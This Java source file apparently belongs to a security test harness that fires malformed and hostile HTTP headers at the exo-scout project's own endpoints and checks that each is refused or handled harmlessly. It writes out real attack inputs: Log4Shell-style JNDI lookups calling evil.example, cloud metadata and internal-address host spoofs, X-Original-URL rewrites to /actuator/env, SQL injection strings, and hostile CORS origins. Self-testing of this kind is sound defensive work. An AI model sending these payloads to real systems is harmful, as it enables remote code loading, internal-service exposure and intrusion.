package io.exoscout.attack;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Headers whose values lie, are endless, or mean something else to somebody else. */
final class HeaderAttacks {

	private static final List<String> HOSTS = List.of("evil.example", "localhost.evil.example", "evil.example:80",
			"localhost@evil.example", "127.0.0.1.evil.example", "[::1].evil.example", "localhost%00.evil.example",
			"0x7f000001.evil", "metadata.internal", "169.254.169.254", "10.0.0.1", "localhost:-1", "localhost:a",
			"[::1", "::1]", "local host", "a,localhost");

	private static final List<String> ORIGINS = List.of("https://evil.example", "null", "http://localhost:1",
			"http://localhost.evil.example", "http://evil.example/localhost", "file://", "chrome-extension://abc",
			"http://127.0.0.1.evil.example", "http://localhost:8080@evil.example", "*", "http://*",
			"http://localhost\u00e9", "data:text/html,x");

	private static final List<String> FORWARDED = List.of("X-Forwarded-Host: evil.example",
			"X-Forwarded-Proto: javascript", "X-Forwarded-Port: -1", "X-Forwarded-Port: 99999999999",
			"X-Forwarded-Prefix: //evil.example/", "X-Forwarded-Prefix: /a\\b",
			"X-Forwarded-For: " + "1.2.3.4, ".repeat(800) + "1.2.3.4", "X-Forwarded-For: ' or 1=1",
			"Forwarded: host=evil.example;proto=x", "Forwarded: for=\"[::1]\";;;,", "Forwarded: host=\"a\\\"b",
			"X-Original-URL: /actuator/env", "X-Rewrite-URL: /actuator/env", "X-Forwarded-Ssl: on",
			"Front-End-Https: on", "X-Real-IP: 127.0.0.1", "Via: 1.1 evil.example", "X-Forwarded-Host: a, b, c",
			"X-Forwarded-Proto: https, http", "X-Forwarded-Host: localhost/../evil");

	private static final List<String> ACCEPT = List.of(many("text/x%d", 51), many("text/x%d;q=0.1", 300), "*/*;q=2",
			"text", "text/", "/", "*/json", "text/csv;q=-1", "text/csv;q=a", "application/json;a=\"", "a/b;c=\"d\\",
			"text/csv;;;;", ",,,,", "text/\u00e9", "x".repeat(4000) + "/y", "application/x-java-serialized-object",
			"text/html;level=" + "1".repeat(3000), "application/json;profile=\"" + "a".repeat(3000) + "\"", "image/png",
			"text/csv;charset=utf-7", "multipart/form-data");

	private static final List<String> TYPES = List.of("application/x-java-serialized-object", "application/xml",
			"text/xml", "application/x-yaml", "application/json;charset=utf-7", "application/json;charset=nonsense",
			"application/json; charset=\"", "text/csv;header=\"", "a", "a/b/c", "multipart/form-data",
			"multipart/form-data; boundary=", "multipart/mixed; boundary=x", "application/x-www-form-urlencoded", "*/*",
			"application/*", "text/csv; charset=utf-16", "application/octet-stream", "application/vnd.ms-excel",
			"application/jsonp", "\u00e9/x", "application/json;" + "a=b;".repeat(900));

	private static final List<String> CODINGS = List.of("gzip, gzip", "br", "deflate", "compress", "x-gzip, identity",
			"gzip;q=1", "exi", "zstd", "gzip" + ", gzip".repeat(50), "\0", "identity, gzip");

	private static final List<String> CONDITIONS = List.of("Range: bytes=0-", "Range: bytes=-1", "Range: bytes=9-1",
			"Range: " + ranges(), "Range: bytes=0-18446744073709551615", "Range: lines=1-2",
			"If-Match: " + "\"a\", ".repeat(900) + "\"a\"", "If-Match: W/\"", "If-None-Match: \"",
			"If-None-Match: *, *", "If-Modified-Since: yesterday", "If-Modified-Since: Thu, 01 Jan 99999 00:00:00 GMT",
			"If-Unmodified-Since: -1", "If-Range: \"x\"", "Expect: 200-maybe", "Expect: 100-continue",
			"Upgrade: h2c\r\nHTTP2-Settings: AAAA", "Upgrade: websocket", "TE: trailers, x;q=9",
			"Cookie: " + "a=b; ".repeat(900), "Cookie: $Version=1; a=\"", "Referer: javascript:alert(1)",
			"Max-Forwards: -1", "Content-Length: 0", "traceparent: 00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-00",
			"traceparent: ff-x", "baggage: " + "a=b,".repeat(900), "b3: 0", "User-Agent: ${jndi:ldap://evil.example/a}",
			"X-Api-Version: ${jndi:ldap://evil.example/a}", "Authorization: Bearer " + "x".repeat(4000),
			"Authorization: Basic =", "Authorization: Bearer", "Authorization: Negotiate YII=", "X-API-Key: \u00e9",
			"X-API-Key: ' or ''='");

	private static final List<String> LANGUAGES = List.of("*", "es;q=a", "-", "en-" + "x".repeat(3000), "en;q=9",
			many("x%d", 500), "../../es", "\u00e9", "es_ES.UTF-8", "${7*7}", "i-klingon",
			"a-very-long-private-use-x-" + "y-".repeat(400) + "z");

	private static final List<String> PATHS = List.of("/", "/health", "/exo-scout-jobs-api/jobs",
			"/exo-scout-predictor/models", "/get-exoplanets", "/exo-scout-orchestrator/options", "/docs",
			"/v3/api-docs/jobs", "/v2");

	private HeaderAttacks() {
	}

	private static String many(String pattern, int times) {
		return IntStream.range(0, times).mapToObj(pattern::formatted).collect(Collectors.joining(", "));
	}

	private static String ranges() {
		return "bytes=" + "0-1,".repeat(900) + "0-1";
	}

	static void addTo(Attacks attacks, String job) {
		String result = "/exo-scout-jobs-api/jobs/" + job + "/result";
		String candidates = "/exo-scout-jobs-api/jobs/" + job + "/candidates";
		for (String path : PATHS) {
			for (String host : HOSTS) {
				attacks.refused("hosts", host,
						RawRequest.head("GET " + path + " HTTP/1.1", "Host: " + host, "Connection: close").bytes());
			}
			for (String header : FORWARDED) {
				attacks.harmless("forwarded headers", header, RawRequest.get(path, header));
			}
			for (String accept : ACCEPT) {
				attacks.harmless("forms of an answer", accept, RawRequest.get(path, "Accept: " + accept));
			}
			for (String condition : CONDITIONS) {
				attacks.harmless("conditions and claims", condition, RawRequest.get(path, condition));
			}
			for (String language : LANGUAGES) {
				attacks.harmless("languages", language, RawRequest.get(path, "Accept-Language: " + language));
			}
		}
		for (String path : List.of("/exo-scout-orchestrator", "/exo-scout-orchestrator/inspect", "/exo-scout-predictor",
				"/save-exoplanet", "/exo-scout-predictor/models", "/get-exoplanets/import",
				"/v2/models/" + job + "/infer", "/exo-scout-lightcurves", "/exo-scout-streams",
				"/exo-scout-series/whiten", "/exo-scout-jobs-api/jobs/" + job + "/cancel")) {
			for (String origin : ORIGINS) {
				attacks.refused("pages of other sites", origin,
						RawRequest.post(path, "text/plain", "{}", "Origin: " + origin));
				attacks.refused("pages of other sites", "asking first: " + origin,
						RawRequest
							.request("OPTIONS", path, "Origin: " + origin, "Access-Control-Request-Method: POST",
									"Access-Control-Request-Headers: content-type, " + "x-a, ".repeat(50) + "x")
							.bytes());
			}
			for (String type : TYPES) {
				attacks.refused("types of a body", type, RawRequest.post(path, type, "{\"a\": 1}"));
			}
			for (String coding : CODINGS) {
				attacks.refused("codings of a body", coding,
						RawRequest.post(path, "application/json", "{\"a\": 1}", "Content-Encoding: " + coding));
			}
		}
		for (String path : List.of(result, candidates, "/exo-scout-predictor/models/" + job + "/download",
				"/exo-scout-predictor/models/" + job + "/onnx")) {
			for (String accept : ACCEPT) {
				attacks.harmless("forms of an answer", path + " " + accept, RawRequest.get(path, "Accept: " + accept));
			}
			for (String condition : CONDITIONS) {
				attacks.harmless("conditions and claims", path + " " + condition, RawRequest.get(path, condition));
			}
		}
		for (String id : List.of("a", "-1", "1e9", "99999999999999999999", "0x1", " 1 2", "\u00e9", "1;2",
				"9".repeat(3000))) {
			attacks.refused("last event", id,
					RawRequest.get("/exo-scout-jobs-api/jobs/none/events", "Last-Event-ID: " + id));
		}
		for (String header : List.of("Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 99", "Sec-WebSocket-Version: a",
				"Sec-WebSocket-Protocol: \"",
				"Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=99")) {
			attacks.refused("sockets", header, RawRequest.get("/ws/" + "a".repeat(30), "Upgrade: websocket", header));
			attacks.refused("sockets", "of another site, " + header,
					RawRequest.get("/ws/a", "Upgrade: websocket", "Origin: https://evil.example", header));
		}
	}

}
